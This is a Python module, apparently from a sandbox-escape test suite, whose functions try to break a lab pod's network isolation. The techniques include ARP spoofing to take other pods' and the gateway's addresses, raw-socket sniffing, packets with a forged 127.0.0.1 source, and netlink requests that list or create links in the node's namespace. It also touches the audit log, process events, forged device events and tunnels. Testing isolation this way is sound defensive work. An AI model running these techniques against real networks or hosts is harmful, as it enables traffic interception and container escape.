"""Attempts at the network: the host's addresses and services, other pods' traffic, other labs, the node."""

import ctypes
import fcntl
import os
import socket
import struct
import time

from escapes.attempt import NotHereError, Targets, attempt, check, first, libc, pack_attribute, secret_in

_WAIT_S = 0.3
_NETLINK_ROUTE, _NETLINK_AUDIT, _NETLINK_CONNECTOR, _NETLINK_UEVENT = 0, 9, 11, 15
_NLM_REQUEST, _NLM_DUMP = 1, 0x300
_RTM_NEWLINK, _RTM_GETLINK, _RTM_GETADDR = 16, 18, 22
_IFLA_IFNAME, _IFLA_LINK, _IFLA_LINKINFO, _IFLA_LINK_NETNSID, _IFLA_TARGET_NETNSID = 3, 5, 18, 37, 46
_IFA_TARGET_NETNSID = 10
_ETH_P_ALL, _ETH_P_ARP = 3, 0x0806
_NUMBERS = range(4)  # a network namespace's ids for those at the other ends of its links (ip-netns(8), nsid)


def _asked(address: tuple[str, int]) -> str | None:
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family) as link:
        link.settimeout(_WAIT_S)
        link.connect(tuple(address))
        return secret_in(link.recv(100), f"{address[0]} port {address[1]}")


@attempt
def connect_to_the_host(targets: Targets) -> str | None:
    """Connect to services of the host, at its loopback and all its other addresses."""
    return first(_asked, targets.tcp)  # type: ignore[arg-type]


@attempt
def connect_to_the_host_through_the_gateway(targets: Targets) -> str | None:
    """Connect to the ports of services of the host at the addresses of the node."""
    ports = {port for _, port in targets.tcp}
    addresses = [(address, port) for address in ("10.244.0.1", "169.254.1.1", "10.96.0.10") for port in ports]
    return first(_asked, addresses)  # type: ignore[arg-type]


@attempt
def send_to_the_host(targets: Targets) -> str | None:
    """Send datagrams to services of the host, and reads the answers."""

    def sent(address: object) -> str | None:
        where = tuple(address)  # type: ignore[arg-type]
        with socket.socket(socket.AF_INET6 if ":" in where[0] else socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.settimeout(_WAIT_S)
            link.sendto(b"from a pod", where)
            return secret_in(link.recv(100), f"{where}")

    return first(sent, targets.udp)


@attempt
def connect_to_abstract_names(targets: Targets) -> str | None:
    """Connect to abstract sockets of the host, of other pods, and to labs' control sockets."""

    def connected(name: object) -> str:
        with socket.socket(socket.AF_UNIX) as link:
            link.settimeout(1)
            link.connect(f"\0{name}")
            return f"connected to {name}"

    return first(connected, targets.abstract)


@attempt
def connect_to_names_that_are_listed(targets: Targets) -> str | None:
    """Connect to every abstract socket that /proc/net/unix lists."""
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as file:
        names = [line.split()[7][1:] for line in file.readlines()[1:] if len(line.split()) > 7 and "@" in line]
    wanted = [each for each in names if targets.pids is None or each in targets.abstract]

    def connected(name: object) -> str:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect(f"\0{name}")
            return f"connected to {name}"

    return first(connected, wanted)


@attempt
def connect_past_the_network(targets: Targets) -> str | None:
    """Connect to the host by a vsock address, which knows of no network namespaces."""
    if targets.vsock is None:
        raise NotHereError("the machine reaches itself by no vsock address")
    with socket.socket(socket.AF_VSOCK) as link:
        link.settimeout(_WAIT_S)
        link.connect(tuple(targets.vsock))
        return secret_in(link.recv(100), "vsock")


@attempt
def overhear_other_pods(_: Targets) -> str | None:
    """Listen on its link for what other pods say to each other."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as link:
        return _overheard(link)


def _only_in_a_pod(targets: Targets) -> None:
    if targets.pids is not None:
        raise NotHereError("outside of a lab that is everybody's business")


def _overheard(link: socket.socket) -> str | None:
    link.settimeout(_WAIT_S)
    end = time.monotonic() + _WAIT_S * 3
    while time.monotonic() < end:
        try:
            if got := secret_in(link.recv(2000), "other pods' traffic"):
                return got
        except TimeoutError:
            return None
    return None


@attempt
def take_the_addresses_of_other_pods(targets: Targets) -> str | None:
    """Say that other pods' addresses are its own (ARP), takes them, and listens for what is sent to them."""
    _only_in_a_pod(targets)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as link:
        link.bind(("eth0", 0))
        mac = link.getsockname()[4]
        for address, _ in targets.peers:
            claimed = socket.inet_aton(address)
            for kind in (1, 2):
                arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, kind) + mac + claimed + b"\xff" * 6 + claimed
                link.send(b"\xff" * 6 + mac + struct.pack("!H", _ETH_P_ARP) + arp)
        return _overheard(link)


@attempt
def route_for_other_pods(targets: Targets) -> str | None:
    """Make the node send it what is for others: it answers every ARP request, and says so unasked for the gateway."""
    _only_in_a_pod(targets)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as link:
        link.bind(("eth0", 0))
        mac = link.getsockname()[4]
        for address in ("169.254.1.1", "10.244.0.1"):
            claimed = socket.inet_aton(address)
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + claimed + b"\xff" * 6 + claimed
            link.send(b"\xff" * 6 + mac + struct.pack("!H", _ETH_P_ARP) + arp)
        return _overheard(link)


def _netlink(kind: int, message: bytes, protocol: int = _NETLINK_ROUTE, flags: int = _NLM_REQUEST) -> bytes:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as link:
        link.settimeout(_WAIT_S)
        if protocol == _NETLINK_ROUTE:
            link.setsockopt(270, 12, 1)  # NETLINK_GET_STRICT_CHK: else attributes of a dump are not looked at
        link.bind((0, 0))
        link.sendto(struct.pack("=IHHII", 16 + len(message), kind, flags, 1, 0) + message, (0, 0))
        answer = link.recv(1 << 16)
    if struct.unpack_from("=H", answer, 4)[0] == 2:  # NLMSG_ERROR
        (number,) = struct.unpack_from("=i", answer, 16)
        if number:
            raise OSError(-number, os.strerror(-number))
    return answer


@attempt
def look_into_the_node(_: Targets) -> str | None:
    """List the links of the network namespace at the other end of its own link, by that one's number."""

    def listed(number: object) -> str | None:
        attribute = pack_attribute(_IFLA_TARGET_NETNSID, struct.pack("=i", number))
        head = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0)
        answer = _netlink(_RTM_GETLINK, head + attribute, flags=_NLM_REQUEST | _NLM_DUMP)
        return f"links of namespace {number}" if struct.unpack_from("=H", answer, 4)[0] == _RTM_NEWLINK else None

    return first(listed, _NUMBERS)


@attempt
def read_addresses_of_the_node(_: Targets) -> str | None:
    """List the addresses of that network namespace."""

    def listed(number: object) -> str | None:
        attribute = pack_attribute(_IFA_TARGET_NETNSID, struct.pack("=i", number))
        answer = _netlink(
            _RTM_GETADDR, struct.pack("=BBBBI", 0, 0, 0, 0, 0) + attribute, flags=_NLM_REQUEST | _NLM_DUMP
        )
        return f"addresses of namespace {number}" if struct.unpack_from("=H", answer, 4)[0] == 20 else None

    return first(listed, _NUMBERS)


@attempt
def make_links_in_the_node(targets: Targets) -> str | None:
    """Make a link in that network namespace."""
    _only_in_a_pod(targets)

    def made(number: object) -> str:
        head = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0)
        kind = pack_attribute(1, b"dummy")
        message = head + pack_attribute(_IFLA_IFNAME, b"escape\0") + pack_attribute(_IFLA_LINKINFO, kind)
        message += pack_attribute(_IFLA_TARGET_NETNSID, struct.pack("=i", number))
        _netlink(_RTM_NEWLINK, message, flags=_NLM_REQUEST | 4 | 0x600)
        return f"a link in namespace {number}"

    return first(made, _NUMBERS)


@attempt
def move_links_into_the_node(targets: Targets) -> str | None:
    """Make a pair of links whose other end is in that network namespace."""
    _only_in_a_pod(targets)

    def made(number: object) -> str:
        head = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0)
        peer = pack_attribute(1, head + pack_attribute(_IFLA_IFNAME, b"escape\0"))
        info = pack_attribute(1, b"veth") + pack_attribute(2, peer)
        message = head + pack_attribute(_IFLA_IFNAME, b"escaping\0") + pack_attribute(_IFLA_LINKINFO, info)
        message += pack_attribute(_IFLA_LINK_NETNSID, struct.pack("=i", number))
        _netlink(_RTM_NEWLINK, message, flags=_NLM_REQUEST | 4 | 0x600)
        return f"a link in namespace {number}"

    return first(made, _NUMBERS)


@attempt
def read_the_audit_settings(_: Targets) -> str | None:
    """Ask the kernel's audit system for its state, which who controls it may."""
    return f"{len(_netlink(1000, b'', _NETLINK_AUDIT))} bytes"  # AUDIT_GET


@attempt
def write_audit_records(_: Targets) -> str | None:
    """Write a record into the machine's audit log."""
    answer = _netlink(1107, b"escape", _NETLINK_AUDIT, _NLM_REQUEST | 4)  # AUDIT_USER_MSG-like, acknowledged
    return f"{len(answer)} bytes"


@attempt
def hear_of_processes(_: Targets) -> str | None:
    """Have the kernel tell it of every process of the machine that starts or ends (the process connector)."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, _NETLINK_CONNECTOR) as link:
        link.settimeout(_WAIT_S)
        link.bind((0, 1))
        body = struct.pack("=IIIIHHI", 1, 1, 0, 0, 4, 0, 1)  # CN_IDX_PROC, CN_VAL_PROC, PROC_CN_MCAST_LISTEN
        link.sendto(struct.pack("=IHHII", 16 + len(body), 3, 0, 0, os.getpid()) + body, (0, 0))
        return f"{len(link.recv(1000))} bytes"


@attempt
def forge_events_of_devices(_: Targets) -> str | None:
    """Send a forged event of a device to whoever listens in its network namespace for the kernel's."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, _NETLINK_UEVENT) as link:
        link.bind((0, 1))
        link.settimeout(_WAIT_S)
        os.close(os.open("/sys/class/mem/null/uevent", os.O_WRONLY))
        return "an event of /dev/null"


@attempt
def make_tunnels(_: Targets) -> str | None:
    """Make a tunnel device of the machine."""
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"escape", 0x1001))
    return "a tunnel"


@attempt
def send_as_other_machines(targets: Targets) -> str | None:
    """Write packets itself that say that they come from the host's own address, and reads the answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link:
        for address, port in targets.udp:
            if ":" in address:
                continue
            datagram = struct.pack("!HHHH", 53, port, 18, 0) + b"from a pod"
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0)
            ip += socket.inet_aton("127.0.0.1") + socket.inet_aton(address)
            try:
                link.sendto(ip + datagram, (address, 0))
            except OSError:
                continue
    return None  # the services show whether one has arrived


@attempt
def get_the_namespace_of_sockets(_: Targets) -> str | None:
    """Ask for the network namespace of the sockets that it holds: the one of the lab's would be another."""
    own = os.stat("/proc/self/ns/net").st_ino
    for fd in range(3):
        number = libc.ioctl(fd, ctypes.c_ulong(0x894C))  # SIOCGSKNS
        if number >= 0 and os.fstat(number).st_ino != own:
            return f"network namespace of descriptor {fd}"
    with socket.socket() as link:
        check(libc.ioctl(link.fileno(), ctypes.c_ulong(0x894C)))
    return None
